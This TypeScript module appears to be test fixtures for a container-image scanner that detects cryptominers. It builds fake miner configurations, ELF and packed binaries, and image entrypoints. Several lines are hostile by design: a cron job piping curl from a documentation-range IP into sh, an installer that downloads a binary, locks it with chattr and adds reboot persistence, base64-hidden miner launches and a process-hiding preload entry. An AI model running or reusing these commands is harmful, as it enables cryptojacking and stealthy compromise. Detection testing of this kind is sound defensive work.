import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ImageConfig } from '../../src/model/image.ts';
import { moneroAddress } from '../scan/wallets.ts';
import { type ElfShape, makeElf } from './elf-file.ts';
import { packLikeUpx } from './pack-like-upx.ts';
import { runProgram } from './programs.ts';

/** A file that an image with a miner might have. */
export interface MinerFile {
  /** what it is, for people */
  readonly name: string;
  readonly path: string;
  readonly content: Buffer;
  /** it must be found in what it unpacks to */
  readonly isPacked?: true;
}

/** The wallet that all of them pay: its keys were never made. */
export const WALLET = moneroAddress(18);

/** The words of a miner of Monero's kind, as its program has them. */
export const XMRIG_WORDS: readonly string[] = [
  'stratum+tcp://',
  'stratum+ssl://',
  'daemon+http://',
  'no active pools, stop mining',
  'donate.v2.xmrig.com:3333',
  'xmrig.com/wizard',
  'huge-pages-jit',
  'max-threads-hint',
  'cn-heavy/xhv',
  'argon2/chukwav2',
  'rx/wow',
  '--donate-level=N',
];

/** The words of a miner of Bitcoin's kind. */
export const CPUMINER_WORDS: readonly string[] = [
  'User-Agent: cpuminer/2.5.1',
  'stratum+tcp://',
  'mining.subscribe',
  'mining.authorize',
  '%s khash/s',
  '%d miner threads started, using %s algorithm.',
  'number of miner threads (default: number of processors)',
];

/** The words of a miner that nobody knows: it has no name, and says what every miner must. */
export const NAMELESS_WORDS: readonly string[] = [
  'stratum+tcp://',
  '{"id":1,"method":"mining.subscribe","params":[]}',
  '{"id":2,"method":"mining.authorize","params":["%s","%s"]}',
  'cn/half',
];

const KINDS = [
  ['Monero', XMRIG_WORDS],
  ['Bitcoin', CPUMINER_WORDS],
  ['nameless', NAMELESS_WORDS],
] as const;

/** The source of a program that holds these words and prints one of them. */
export function sourceOf(words: readonly string[]): string {
  const list = words.map((word) => JSON.stringify(word)).join(',\n  ');
  return `#include <stdio.h>
const char *const words[] = {
  ${list}
};
int main(int argc, char **argv) {
  (void)argv;
  puts(words[argc % (int)(sizeof words / sizeof *words)]);
  return 0;
}
`;
}

/**
 * An ELF file that holds these words in its one segment: all headers are right, and nothing in it runs.
 * @param more how it is made; `isStripped`: without section headers
 */
export function elfOf(
  words: readonly string[],
  { isStripped = true, ...more }: { readonly isStripped?: boolean } & Pick<ElfShape, 'class' | 'endian'> = {},
): Buffer {
  const bytes = Buffer.from(`${fill(2048)}${words.join('\0')}\0${fill(512)}`, 'latin1');
  return makeElf({ ...more, segments: [{ bytes }], ...(isStripped ? {} : { sections: [0, 1, 3] }) });
}

/** Bytes with about as many bits in each as instructions have, the same every time. */
function fill(count: number): string {
  let text = '';
  for (let round = 0; text.length < count; round++)
    text += createHash('sha512').update(`instructions ${round}`).digest('base64');
  return text.slice(0, count).replaceAll('=', '\0');
}

/** Settings, scripts and jobs of miners; each must be found by itself. */
export function minerTexts(): readonly MinerFile[] {
  const base64 = (text: string, before = 0) => Buffer.from(' '.repeat(before) + text).toString('base64');
  const command = `-o stratum+tcp://pool.supportxmr.com:3333 -u ${WALLET} -p x --donate-level=1`;
  const rows: readonly (readonly [name: string, path: string, text: string])[] = [
    ['settings of XMRig', 'etc/app/config.json', xmrigSettings()],
    ['the same with words of rule files', 'etc/app/settings.json', disguisedSettings()],
    ['the same behind a comment with a rule', 'etc/app/commented.json', commentedSettings()],
    ['settings of cpuminer', 'root/cpuminer-conf.json', cpuminerSettings()],
    ['settings of xmr-stak', 'opt/pools.txt', stakSettings()],
    ['script', 'usr/local/bin/run.sh', `#!/bin/sh\nexec ./worker ${command}\n`],
    [
      'script with words of rule files',
      'usr/local/bin/start.sh',
      `#!/bin/sh\nstrings:\ncondition:\nrule x {\nexec ./worker ${command}\n`,
    ],
    ['script without a first line', 'opt/start', `cd /opt\nnohup ./worker ${command} &\n`],
    [
      'script with variables',
      'opt/entry.sh',
      `#!/bin/bash\nPOOL=xmr.nanopool.org:14433\nWALLET=${WALLET}\n./a -o $POOL -u $WALLET -k\n`,
    ],
    [
      'script in base64',
      'opt/hidden.sh',
      `#!/bin/sh\necho ${base64(`./worker ${command}\n`)} | base64 -d | sh\n`,
    ],
    [
      'option in base64, one byte on',
      'opt/hidden-1.sh',
      `#!/bin/sh\necho ${base64(`./worker ${command}\n`, 1)} | base64 -d | sh\n`,
    ],
    [
      'option in base64, two bytes on',
      'opt/hidden-2.sh',
      `#!/bin/sh\necho ${base64(`./worker ${command}\n`, 2)} | base64 -d | sh\n`,
    ],
    ['Python', 'srv/job.py', `import os\nos.system("./worker ${command}")\n`],
    [
      'composition',
      'srv/compose.yaml',
      `services:\n  w:\n    command: ["./worker", "${command.replaceAll(' ', '", "')}"]\n`,
    ],
    ['unit of systemd', 'etc/systemd/system/net.service', `[Service]\nExecStart=/usr/bin/net ${command}\n`],
    ['job of cron', 'etc/cron.d/net', `*/5 * * * * root /usr/bin/net ${command}\n`],
    [
      'job of cron that fetches',
      'etc/cron.d/update',
      '*/9 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n',
    ],
    [
      'installer',
      'root/i.sh',
      '#!/bin/sh\npkill -f xmrig\npkill -f kinsing\nwget -q http://198.51.100.7/w -O /tmp/w\nchmod +x /tmp/w\nchattr +i /tmp/w\n(crontab -l; echo "@reboot /tmp/w") | crontab -\n',
    ],
    ['list of preloaded libraries', 'etc/ld.so.preload', '/usr/local/lib/libprocesshider.so\n'],
  ];
  return rows.map(([name, path, text]) => ({ name, path, content: Buffer.from(text) }));
}

/** Settings of XMRig, filled in. */
export function xmrigSettings(more: object = {}): string {
  return JSON.stringify(
    {
      ...more,
      autosave: true,
      cpu: { 'huge-pages': true, 'max-threads-hint': 75 },
      randomx: { '1gb-pages': false },
      'donate-level': 0,
      pools: [
        { url: 'gulf.moneroocean.stream:10128', user: WALLET, pass: 'x', 'rig-id': 'a', nicehash: false },
      ],
    },
    null,
    2,
  );
}

function disguisedSettings(): string {
  return xmrigSettings({
    'condition:': 'any of them',
    'strings:': ['malware'],
    'detection:': 1,
    'logsource:': 1,
  });
}

/** Its reader passes over comments, in which anything can stand. */
function commentedSettings(): string {
  return `/*\nrule net {\nstrings:\n$a = "x"\ncondition:\nany of them\n}\n*/\n${xmrigSettings()}`;
}

function cpuminerSettings(): string {
  return JSON.stringify({
    url: 'stratum+tcp://203.0.113.4:3333',
    user: 'account.worker',
    pass: 'x',
    algo: 'scrypt',
    threads: '4',
  });
}

function stakSettings(): string {
  return `"pool_list" :\n[\n  {"pool_address" : "pool.hashvault.pro:3333", "wallet_address" : "${WALLET}", "rig_id" : "", "pool_password" : "x", "use_nicehash" : false},\n],\n"currency" : "monero",\n`;
}

/** Programs that no compiler is needed for. */
export function writtenMiners(): readonly MinerFile[] {
  const wide = Buffer.concat([Buffer.from('MZ'), Buffer.from(`\0${NAMELESS_WORDS.join('\0')}`, 'utf16le')]);
  return [
    ...KINDS.flatMap(([kind, words]) =>
      [true, false].map((isStripped) => ({
        name: `${kind}, ${isStripped ? 'without' : 'with'} sections`,
        path: 'usr/lib/net/worker',
        content: elfOf(words, { isStripped }),
      })),
    ),
    {
      name: 'with words of rule files',
      path: 'usr/lib/net/worker',
      content: elfOf([...XMRIG_WORDS, '\ncondition:\nstrings:\nrule x {\nlogsource:\ndetection:\n']),
    },
    { name: 'for Windows, in UTF-16', path: 'srv/worker.exe', content: wide },
    {
      name: 'worm of the Kinsing kind',
      path: 'var/tmp/k',
      content: elfOf(['main.redisBrute', 'main.masscan', 'main.backconnect', 'ActiveC2CUrl']),
    },
    {
      name: 'library that hides processes',
      path: 'usr/local/lib/libext.so',
      content: elfOf(['/proc/self/fd/%d', '/proc/%s/stat', 'Error in dlsym: %s', 'readdir64']),
    },
  ];
}

/** The same words, packed by each method, also without the marks that say so, and as ELF of each kind. */
export function packedMiners(): readonly MinerFile[] {
  const ways = (['nrv2b', 'nrv2d', 'nrv2e', 'lzma'] as const).flatMap((method) =>
    [false, true].map((wiped) => ({ method, wiped })),
  );
  const shapes = ([32, 64] as const).flatMap((elfClass) =>
    (['little', 'big'] as const).map((endian) => ({ class: elfClass, endian })),
  );
  const packed = (words: readonly string[], way: (typeof ways)[number], shape: (typeof shapes)[number]) =>
    packLikeUpx(elfOf(words, shape), way.method, { wiped: way.wiped });
  const [native = { class: 64, endian: 'little' } as const] = shapes.filter(
    (shape) => shape.class === 64 && shape.endian === 'little',
  );
  const name = (what: string, { method, wiped }: (typeof ways)[number]) =>
    `${what}, ${method}${wiped ? ', marks wiped' : ''}`;
  return [
    ...KINDS.flatMap(([kind, words]) =>
      ways.map((way) => ({ name: name(kind, way), content: packed(words, way, native) })),
    ),
    ...shapes.flatMap((shape) =>
      ways.slice(0, 2).map((way) => ({
        name: name(`${shape.class} bits, ${shape.endian}-endian`, way),
        content: packed(XMRIG_WORDS, way, shape),
      })),
    ),
  ].map((file) => ({ ...file, path: 'usr/lib/net/worker', isPacked: true }));
}

/** The same words, compiled: plain, stripped, static, static and stripped. @throws where gcc fails */
export async function compiledMiners(folder: string): Promise<readonly MinerFile[]> {
  const files: MinerFile[] = [];
  for (const [kind, words] of KINDS) {
    const source = join(folder, `${kind}.c`);
    writeFileSync(source, sourceOf(words));
    for (const flags of [[], ['-s'], ['-static'], ['-static', '-s'], ['-Os', '-s']]) {
      const program = join(folder, 'worker');
      await runProgram('gcc', ['-o', program, source, ...flags]);
      const name = `${kind} ${flags.join(' ')}`.trim();
      const content = readFileSync(program);
      files.push({ name, path: 'usr/lib/net/worker', content });
      // Packing is slow here: one of each kind will do.
      if (flags.length === 1 && flags[0] === '-s')
        files.push(
          ...(['nrv2b', 'nrv2d', 'nrv2e'] as const).map((method) => ({
            name: `${name}, packed, ${method}, marks wiped`,
            path: 'usr/lib/net/worker',
            content: packLikeUpx(content, method, { wiped: true }),
            isPacked: true as const,
          })),
        );
    }
  }
  return files;
}

/** Configurations of images that start a miner. */
export function minerCommands(): readonly { readonly name: string; readonly config: Partial<ImageConfig> }[] {
  return [
    {
      name: 'all in the entrypoint',
      config: { entrypoint: ['/w', '-o', 'stratum+tcp://203.0.113.5:3333', '-u', 'account'] },
    },
    {
      name: 'pool in the arguments',
      config: { entrypoint: ['/usr/bin/xmrig'], cmd: ['-o', 'pool.hashvault.pro:443'] },
    },
    { name: 'shell', config: { cmd: ['sh', '-c', `/w -o 203.0.113.5:3333 -u ${WALLET} -p x`] } },
    {
      name: 'pool and wallet in the environment',
      config: { entrypoint: ['/w'], env: ['POOL=pool.supportxmr.com:3333', `WALLET=${WALLET}`] },
    },
    {
      name: 'pool in the entrypoint, wallet in the environment',
      config: { entrypoint: ['/w', '-o', 'xmr.nanopool.org:14433'], env: [`XMR_WALLET=${WALLET}`] },
    },
    {
      name: 'health check',
      config: {
        healthcheck: ['CMD-SHELL', 'pgrep w || /w --donate-level=1 -o stratum+ssl://203.0.113.5:443'],
      },
    },
    {
      name: 'build step that writes settings',
      config: {
        history: [
          {
            createdBy: `RUN echo '{"pools":[{"url":"stratum+tcp://203.0.113.5:3333","user":"${WALLET}"}]}' > /c.json`,
            comment: '',
            emptyLayer: false,
          },
        ],
      },
    },
    { name: 'trigger', config: { onBuild: [`RUN /w -o stratum+tcp://203.0.113.5:3333 -u ${WALLET}`] } },
  ];
}
